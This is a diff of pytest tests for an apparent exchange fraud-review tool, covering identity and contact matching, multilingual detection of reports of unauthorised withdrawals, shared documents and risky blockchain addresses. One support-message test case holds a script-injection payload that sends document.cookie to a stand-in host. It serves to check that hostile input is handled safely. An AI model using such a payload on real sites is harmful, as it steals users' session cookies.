+def test_one_person_has_one_name_and_one_birth_date(exchange, ask, name, born, same):
+    found = _persons(exchange, ask, other={"full_name": name, "birth_date": born})
+    assert found.facts["person.accounts_same"] == same
+    assert found.facts["person.confirmed_fraud_same"] == 0
+    assert found.facts["contact.accounts_sharing"] == 0
+
+
+@pytest.mark.parametrize(
+    ("mine", "theirs", "same"),
+    [
+        ({"email": "Ann+1@Mail.example"}, {"email": " ann+2@mail.EXAMPLE"}, 1),
+        ({"email": "a.n.n@gmail.com"}, {"email": "ann+x@googlemail.com"}, 1),
+        ({"email": "a.nn@mail.example"}, {"email": "ann@mail.example"}, 0),
+        ({"phone": "+49 170 123-4567"}, {"phone": "0049 (0)170/1234567"}, 1),
+        ({"phone": "+49 170 1234567"}, {"phone": "+49 170 1234568"}, 0),
+        ({"email": "test@mail.example"}, {"email": "test@mail.example"}, 0),
+        ({"phone": "000 000 000"}, {"phone": "000 000 000"}, 0),
+        ({"phone": ""}, {"phone": ""}, 0),
+        ({"email": "n/a", "phone": "+49 170 1234567"}, {"email": "n/a"}, 0),
+    ],
+)
+def test_an_email_and_a_phone_have_one_spelling(exchange, ask, mine, theirs, same):
+    phone = {"phone": "+49 999 1234567"} if "email" in mine else {}
+    found = _persons(exchange, ask, phone | mine, other=theirs)
+    assert found.facts["contact.accounts_sharing"] == same
+    assert len(found.exhibits) == same
+
+
+def test_fraud_of_the_same_person_and_of_contacts_is_told_apart_and_once(exchange, ask):
+    twin = {"full_name": "Example Ann", "birth_date": date(1980, 2, 3), "email": "ann@mail.example"}
+    friend = {"email": "ann@mail.example"}
+    facts = {
+        "person.accounts_same": 1,
+        "person.confirmed_fraud_same": 0,
+        "contact.accounts_sharing": 1,
+        "contact.confirmed_fraud_sharing": 0,
+    }
+    exchange.add("earlier_cases", customer_id="twin", opened_at=exchange.ago(days=-1), outcome="confirmed_fraud")
+    found = _persons(exchange, ask, twin=twin, friend=friend, later=friend | {"created_at": exchange.ago(days=-1)})
+    assert found.facts == facts
+    exchange.add("earlier_cases", customer_id="twin", opened_at=exchange.ago(days=9), outcome="confirmed_fraud")
+    assert ask("same_person").facts == facts | {"person.confirmed_fraud_same": 1}
+    exchange.add("earlier_cases", customer_id="friend", opened_at=exchange.ago(days=9), outcome="STORNO")
+    del facts["contact.confirmed_fraud_sharing"]
+    assert ask("same_person").facts == facts | {"person.confirmed_fraud_same": 1}
+    exchange.rows["earlier_cases"][-1]["outcome"] = "confirmed_fraud"
+    assert ask("same_person").facts["contact.confirmed_fraud_sharing"] == 1
+    (graph,) = ask("same_person").exhibits
+    assert {edge[1] + edge[2] for edge in json.loads(graph.content)["edges"]} == {
+        "customer:twinsame name and birth date",
+        "customer:friendsame e-mail or phone",
+    }
+    assert not {"Ann", "ann@", "170", "1980"} & set(re.findall(r"\w+@?", graph.content))
+
+
+@pytest.mark.parametrize("lacking", [{"full_name": "unknown"}, {"full_name": " "}, {"birth_date": None}])
+def test_without_a_name_or_a_birth_date_nobody_is_the_same(exchange, ask, lacking):
+    facts = _persons(exchange, ask, lacking, other=lacking).facts
+    assert facts == {"contact.accounts_sharing": 0, "contact.confirmed_fraud_sharing": 0}
+
+
+@pytest.mark.parametrize("email", [None, "-", "unknown", "test@mail.example"])
+def test_an_account_without_any_contact_may_share_one(exchange, ask, email):
+    nothing = {"email": email, "phone": "123"}
+    assert set(_persons(exchange, ask, nothing).facts) == {"person.accounts_same", "person.confirmed_fraud_same"}
+
+
+def test_what_many_accounts_have_is_a_default_and_no_link(exchange, ask):
+    every = {"full_name": "Ann Example", "birth_date": date(1980, 2, 3), "email": "ann@mail.example"}
+    _persons(exchange, ask, a=every, b=every, c=every)
+    assert ask("same_person", default_from=3).facts["person.accounts_same"] == 3
+    assert ask("same_person", default_from=2).facts == {}
+
+
 def test_earlier_cases_by_outcome(exchange, ask):
     for outcome in ("confirmed_fraud", "false_positive", "false_positive", "inconclusive"):
         exchange.add("earlier_cases", customer_id="C1", opened_at=exchange.ago(days=40), outcome=outcome)
@@ -867,6 +1384,50 @@ def test_exposure_is_never_negative(exchange, ask):
         ("I have not made this withdrawal", True, False),
         ("I never authorised any of it", True, False),
         ("My phone was stolen on the trip, I had to reset everything on a new one.", True, True),
+        ("I did not withdraw this money, please help", True, False),
+        ("My money is gone! Someone took everything", True, False),
+        ("This withdrawal was fraud", True, False),
+        ("I never sent this", True, False),
+        ("My account has been hijacked", True, False),
+        ("I want to report fraud, there is a withdrawal I know nothing about", True, False),
+        ("Não fui eu, alguém entrou na minha conta e levou tudo", True, False),
+        ("Meu dinheiro sumiu da conta", True, False),
+        ("Non sono stato io, mi hanno rubato il conto", True, False),
+        ("Это не я, меня взломали, верните деньги", True, False),
+        ("Я не выводил эти деньги", True, False),
+        ("Ktoś włamał się na moje konto", True, False),
+        ("Nie zlecałem tej wypłaty", True, False),
+        ("Hesabım çalındı, bu çekimi ben yapmadım", True, False),
+        ("Benim degil, hesabim calindi", True, False),
+        ("我的账户被盗了", True, False),
+        ("我没有提款，请冻结", True, False),
+        ("No hice este retiro", True, False),
+        ("Je n\u2019ai pas demande\u0301 ce retrait", True, False),
+        ("Ich habe diese Auszahlung nicht gemacht", True, False),
+        ("Your fraud team blocked my card, please unlock it", False, False),
+        ("Why was I suspected of fraud?", False, False),
+        ("I did not send the documents yet, sorry", False, False),
+        ("Ich habe das Geld noch nicht überwiesen", False, False),
+        ("No me robaron, solo pregunto", False, False),
+        ("Somebody sent me a dollar I did not ask for. What is this?", False, False),
+        ("Der Betrag betrug 100 Euro, wann kommt er an?", False, False),
+        ("Quanto tempo demora um saque para a minha conta?", False, False),
+        ("Quanto ci mette un prelievo?", False, False),
+        ("Сколько времени занимает вывод?", False, False),
+        ("Ile trwa wypłata środków?", False, False),
+        ("Para çekme işlemi ne kadar sürer?", False, False),
+        ("请问提现要多长时间？", False, False),
+        ("Сейчас я за границей", False, True),
+        ("hello", False, False),
+        ("ok \U0001f44d", False, False),
+        ("12345?", False, False),
+        ("<script>fetch('https://collect.example/?c=' + document.cookie)</script> hello?", False, False),
+        ("Dit is niet door mij gedaan, iemand heeft mijn rekening leeggehaald", None, None),
+        ("Hello, nu am facut eu aceasta retragere, cineva a intrat in cont", None, None),
+        ("Jag har inte gjort det här uttaget", None, None),
+        ("Це не мій вивід, гроші зникли з рахунку", None, None),
+        ("私はこの出金をしていません", None, None),
+        ("لم أقم بهذا السحب", None, None),
     ],
 )
 def test_support_messages_by_key_words(exchange, ask, body, unauthorised, travel):
@@ -875,12 +1436,11 @@ def test_support_messages_by_key_words(exchange, ask, body, unauthorised, travel
         "support_messages", customer_id="C1", at=exchange.ago(days=1), direction="agent", body="hacked? travelling?"
     )
     found = ask("support_messages")
-    assert found.facts == {
-        "support.messages": 1,
-        "support.reported_unauthorised": unauthorised,
-        "support.mentions_travel": travel,
-    }
-    assert json.loads(found.exhibits[0].content) == [{"at": "2026-05-31T12:00:00Z", "text": body}]
+    assert found.facts["support.messages"] == 1
+    assert found.facts.get("support.reported_unauthorised") is unauthorised
+    assert found.facts.get("support.mentions_travel") is travel
+    text = unicodedata.normalize("NFKC", body)
+    assert json.loads(found.exhibits[0].content) == [{"at": "2026-05-31T12:00:00Z", "text": text}]
 
 
 def test_a_message_without_text_is_counted_and_not_quoted_and_may_say_anything(exchange, ask):
@@ -967,7 +1527,8 @@ def test_peers_live_in_one_country_however_it_is_written(exchange, ask):
 def test_a_document_number_is_of_a_country_however_that_is_written(exchange, ask, theirs, shared):
     usual = {"submitted_at": exchange.ago(days=1), "document_number": "N-1"}
     exchange.add("kyc_submissions", customer_id="C1", document_country="DEU", image_hash=(1 << 32) - 1, **usual)
-    exchange.add("kyc_submissions", customer_id="other", document_country=theirs, image_hash=(1 << 64) - 1, **usual)
+    other = usual | ANOTHER | {"document_country": theirs, "image_hash": (1 << 64) - 1}
+    exchange.add("kyc_submissions", customer_id="other", **other)
     found = ask("shared_documents")
     assert found.facts.get("document.accounts_sharing_number") == shared
     assert len(found.exhibits) == bool(shared)
@@ -988,13 +1549,13 @@ def test_addresses_are_compared_as_their_letters_mean(exchange, ask, mine, their
     exchange.add("earlier_cases", customer_id="other", opened_at=exchange.ago(days=90), outcome="confirmed_fraud")
     exchange.add("chain_addresses", chain_address=theirs, risk_score=0.95, category="mixer")
     exchange.withdraw(exchange.ago(days=9), 5.0, who="other", chain_address=theirs)
-    exchange.withdraw(exchange.ago(days=8), 5.0, chain_address=theirs)
+    exchange.withdraw(exchange.ago(days=40), 5.0, chain_address=theirs)
     exchange.withdraw(exchange.ago(days=1), 5_000.0, chain_address=mine)
     exchange.rows["withdrawals"].pop(-2)
     shared = ask("shared_addresses")
     assert shared.facts == {"address.accounts_sharing": same, "address.confirmed_fraud_sharing": same}
     assert ask("counterparty_risk").facts.get("counterparty.risky_usd") == (5_000.0 if same else None)
-    exchange.withdraw(exchange.ago(days=8), 5.0, chain_address=theirs)
+    exchange.withdraw(exchange.ago(days=40), 5.0, chain_address=theirs)
     assert ask("new_device_withdrawal").facts["takeover.new_address"] is not same
 
 
@@ -1006,11 +1567,13 @@ def test_an_address_that_several_rows_tell_of_is_as_bad_as_the_worst_and_counts_
         "counterparty.max_risk": 0.95,
         "counterparty.risky_usd": 5_000.0,
         "counterparty.risky_share": 1.0,
+        "counterparty.grave_usd": 5_000.0,
         "counterparty.sanctioned": True,
     }
     exchange.rows["chain_addresses"][-2:] = []
     exchange.rows["chain_addresses"][-1]["risk_score"] = 95.0
-    assert ask("counterparty_risk").facts == {"counterparty.sanctioned": False}, "a score out of range is none"
+    known = {"counterparty.grave_usd": 0.0, "counterparty.sanctioned": False}
+    assert ask("counterparty_risk").facts == known, "a score out of range is none"
 
 
 @pytest.mark.parametrize("usd", [-5.0, float("inf"), 1e308])
